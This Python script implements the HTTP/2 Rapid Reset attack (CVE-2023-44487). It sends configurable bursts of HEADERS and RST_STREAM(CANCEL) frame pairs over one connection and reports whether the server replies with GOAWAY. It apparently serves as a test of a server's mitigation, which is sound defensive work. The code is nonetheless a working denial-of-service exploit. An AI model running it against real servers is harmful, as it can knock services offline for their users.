#!/usr/bin/env python3
"""Rapid reset (CVE-2023-44487): one connection opens and immediately resets streams,
HEADERS + RST_STREAM(CANCEL) pairs in bursts, then reads until the server ends the
connection.

Prints {"pairs_sent", "goaway": bool, "goaway_code", "goaway_last_stream", "end":
"eof"|"connreset"|"timeout", "elapsed"}."""
import argparse
import struct
import time

import rawh2 as h


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--authority", default="backend")
    p.add_argument("--path", default="/")
    p.add_argument("--pairs", type=int, default=1000)
    p.add_argument("--burst", type=int, default=100)
    p.add_argument("--wait", type=float, default=10.0)
    a = p.parse_args()
    start = time.monotonic()
    sock = h.connect(a.port)
    sock.sendall(h.PREFACE + h.settings())
    reader = h.FrameReader(sock)
    block = h.simple_request_block(a.authority, a.path)
    result = {"pairs_sent": 0, "goaway": False, "goaway_code": None, "goaway_last_stream": None, "end": None}
    stream = 1
    sent = 0

    def drain(until):
        """Reads what the server sent; True once GOAWAY arrived or the connection ended."""
        while True:
            f = reader.next(until)
            if f == "timeout":
                return False
            if f in (None, "reset"):
                result["end"] = "eof" if f is None else "connreset"
                return True
            ftype, flags, sid, payload = f
            if ftype == h.SETTINGS and not flags & h.ACK:
                sock.sendall(h.frame(h.SETTINGS, h.ACK, 0))
            if ftype == h.GOAWAY and not result["goaway"]:
                last, code, debug = h.goaway_fields(payload)
                result.update(goaway=True, goaway_code=code, goaway_name=h.ERROR_NAMES.get(code), goaway_last_stream=last, debug=debug)
                return True

    try:
        done = False
        while sent < a.pairs and not done:
            burst = b""
            for _ in range(min(a.burst, a.pairs - sent)):
                burst += h.frame(h.HEADERS, h.END_STREAM | h.END_HEADERS, stream, block)
                burst += h.frame(h.RST_STREAM, 0, stream, struct.pack(">I", 0x8))
                stream += 2
                sent += 1
            sock.sendall(burst)
            result["pairs_sent"] = sent
            done = drain(time.monotonic() + 0.01)
    except OSError as e:
        result["write_error"] = str(e)
    if result["end"] is None:
        # Wait for GOAWAY and then the end of the connection.
        deadline = time.monotonic() + a.wait
        while result["end"] is None:
            f = reader.next(deadline)
            if f == "timeout":
                result["end"] = "timeout"
            elif f in (None, "reset"):
                result["end"] = "eof" if f is None else "connreset"
            else:
                ftype, flags, sid, payload = f
                if ftype == h.GOAWAY and not result["goaway"]:
                    last, code, debug = h.goaway_fields(payload)
                    result.update(goaway=True, goaway_code=code, goaway_name=h.ERROR_NAMES.get(code), goaway_last_stream=last, debug=debug)
                    # A server may keep the connection open after GOAWAY for a while;
                    # GOAWAY is what this test asks for.
                    deadline = min(deadline, time.monotonic() + 3)
    result["elapsed"] = round(time.monotonic() - start, 3)
    h.emit(result)


if __name__ == "__main__":
    main()
